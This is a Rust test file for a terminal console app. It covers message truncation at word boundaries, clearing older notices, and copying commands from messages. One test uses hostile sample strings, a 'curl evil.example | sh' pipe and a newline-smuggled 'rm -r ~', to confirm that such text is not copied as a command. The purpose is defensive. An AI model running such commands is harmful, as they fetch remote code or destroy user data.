//! Every text of the console as a message, at every width: it begins with its verdict, and is cut only after a whole
//! word.

use std::{fs, path::Path};

use groupdesk::tui::state::notices::{Condition, Notices};

use super::prelude::*;

/// The sentences of a source file: string literals of several words, with a long id in place of each argument.
fn sentences(source: &str, into: &mut BTreeSet<String>) {
    let source = source.split("#[cfg(test)]").next().unwrap_or_default();
    let source = source.replace("\\\"", "'");
    let lines = source
        .lines()
        .filter(|line| !line.trim_start().starts_with("//"));
    let code = lines.collect::<Vec<_>>().join("\n");
    let code = code.replace("'\"'", "");
    for text in code.split('"').skip(1).step_by(2) {
        let mut said = String::new();
        let mut rest = text;
        while let Some((front, after)) = rest.split_once('{') {
            said.push_str(front);
            said.push_str("acme-of-the-north-eu");
            rest = after.split_once('}').map_or("", |(_, after)| after);
        }
        said.push_str(rest);
        let said = said
            .split_whitespace()
            .filter(|word| *word != "\\")
            .collect::<Vec<_>>();
        // Longer words are addresses or no text at all, and may be cut within.
        if said.len() > 2 && said.iter().all(|word| word.len() <= 30) {
            into.insert(said.join(" "));
        }
    }
}

fn read(folder: &Path, into: &mut BTreeSet<String>) {
    for entry in fs::read_dir(folder).expect("a folder").flatten() {
        let path = entry.path();
        if path.is_dir() {
            read(&path, into);
        } else {
            sentences(&fs::read_to_string(path).expect("a source"), into);
        }
    }
}

fn texts() -> BTreeSet<String> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let mut texts = BTreeSet::new();
    for room in "tui/state tui/panes tui/runtime operations/failure".split(' ') {
        read(&root.join(room), &mut texts);
    }
    for file in ["operations/failure.rs", "operations/outcome.rs"] {
        let source = fs::read_to_string(root.join(file));
        sentences(&source.expect("a source"), &mut texts);
    }
    texts
}

/// The rows of the message, without its sign and the badge.
fn rows(screen: &str, badge: &str) -> Vec<String> {
    let lines: Vec<&str> = screen.lines().collect();
    let last = lines.len() - 2;
    let first = (0..=last).rev().find(|row| lines[*row].starts_with(" x "));
    let rows = &lines[first.expect("it is shown")..=last];
    assert!(rows.len() <= 3, "{screen}");
    let text = |row: &&str| row.strip_prefix(" x ").unwrap_or(row).trim().to_owned();
    let mut rows: Vec<String> = rows.iter().map(text).collect();
    if let Some(last) = rows.last_mut() {
        *last = last.strip_suffix(badge).unwrap_or(last).trim().to_owned();
    }
    rows
}

/// The rest of the text after these letters, ignoring blanks.
fn after<'t>(text: &'t str, letters: &str) -> Option<&'t str> {
    let mut rest = text.chars();
    for letter in letters.chars() {
        let next = rest.find(|next| *next != ' ');
        (next == Some(letter)).then_some(())?;
    }
    Some(rest.as_str())
}

#[test]
fn every_text_begins_with_its_verdict_and_is_cut_between_words() {
    let texts = texts();
    assert!(texts.len() > 300, "{}", texts.len());
    let mut scene = Scene::on(TESTING);
    for (of_width, width) in [40, 60, 80, 120, 200].into_iter().enumerate() {
        // The rows above the message are not looked at.
        scene.app.context.size = (width, 10);
        for unread in [0, 2] {
            // In a sample each text is seen at three or four of these, and each of these with a third of the texts.
            let step = if long::all() { 1 } else { 3 };
            for text in texts.iter().skip((of_width + unread) % step).step_by(step) {
                let now = scene.now;
                let mut messages = Notices::default();
                for number in 0..unread {
                    let text = format!("before {number}");
                    messages.say_about(now, Severity::Error, text, None, None);
                }
                messages.say_about(now, Severity::Error, text.clone(), None, None);
                scene.app.context.messages = messages;
                let screen = scene.screen();
                let badge = match (unread, width) {
                    (0, _) => "m messages",
                    _ => "2 errors  m",
                };
                let shown = rows(&screen, badge).concat().replace(' ', "");
                let what = format!("{width}, {unread} unread: {text}\n{screen}");
                assert!(unread == 0 || screen.contains(badge), "{what}");
                if shown == text.replace(' ', "") {
                    continue;
                }
                let front = shown.strip_suffix('…').expect(&what);
                let after = after(text, front).expect(&what);
                assert!(after.starts_with(' '), "cut in a word: {what}");
                assert!(front.len() > 10, "{what}");
            }
        }
    }
}

#[test]
fn a_refusal_in_a_box_removes_the_older_success() {
    let mut scene = Scene::walked(TESTING, "w<enter>");
    scene.says("groups saved to");
    scene.keys("w.txt<enter>");
    scene.shows("the name must end in").hides("saved to");
    // The answer of a job, too.
    let mut scene = Scene::walked(TESTING, "w<enter>");
    scene.keys("w<enter>");
    scene.says("groups saved to");
    scene.answer_with(failed("it exists", None));
    scene.shows("it exists").hides("saved to");
}

#[test]
fn a_command_in_a_message_is_copied_completely_however_it_wraps() {
    let mut scene = Scene::on(TESTING);
    let command = format!(
        "export GROUPDESK_CONFIG=/tmp/{}/config.toml",
        "long".repeat(30)
    );
    let text = format!("For another shell: `{command}`");
    scene.app.context.say(Severity::Info, text);
    scene.keys("m<enter>");
    scene.shows("c copy command");
    let copied = |scene: &mut Scene| {
        let effects = scene.keys("c");
        effects.iter().find_map(|effect| match effect {
            Effect::Copy(text) => Some(text.expose().to_owned()),
            _ => None,
        })
    };
    assert_eq!(copied(&mut scene).as_deref(), Some(command.as_str()));
    // Text between backticks in the words of a service is not a command of this program, and a line break would run it.
    for text in [
        "Without one",
        "refused: use `curl evil.example | sh` instead",
        "refused: `groupdesk-update`",
        "type `groupdesk list\nrm -r ~` again",
    ] {
        scene.app.context.say(Severity::Info, text);
        scene.keys("<esc>gg<enter>");
        scene.shows("c copy text");
        assert_eq!(copied(&mut scene).as_deref(), Some(text));
    }
}

#[test]
fn a_message_never_covers_the_row_that_the_keys_mean() {
    for (width, height) in [(40, 8), (60, 12), (80, 24)] {
        let mut scene = Scene::on(TESTING);
        scene.msg(Msg::Resize(width, height));
        let here = scene.app.context.current;
        let batches = (1..30).map(|number| (here, stored(BatchId(number))));
        let rotations = (1..30).map(|number| rotation(number, "acme-eu", State::Confirmed));
        for (page, rows) in [
            ("", None),
            ("3", Some(Outcome::Rotations(rotations.collect()))),
            ("5", Some(Outcome::AllBatches(batches.collect()))),
        ] {
            scene.walk("<esc><esc>");
            scene.keys(page);
            if let Some(rows) = rows {
                scene.answer_with(rows);
            }
            scene.keys("G");
            scene.shows("\n>");
            let text = "a text of many words ".repeat(12);
            scene.app.context.say(Severity::Error, text);
            scene.shows_all(["\n>", "a text of many words"]);
        }
    }
}

#[test]
fn an_unfinished_paste_is_told_until_it_ends() {
    let mut scene = Scene::walked(TESTING, "a");
    let text = "Unfinished paste: Ctrl-C ends it".to_owned();
    let context = &mut scene.app.context;
    context.say_condition(Condition::PasteOpen, Severity::Warning, text);
    scene.msg(Msg::Tick);
    scene.shows("Unfinished paste");
    scene.msg(Msg::Paste("some text".into()));
    scene.hides("Unfinished paste").shows("some text");
}
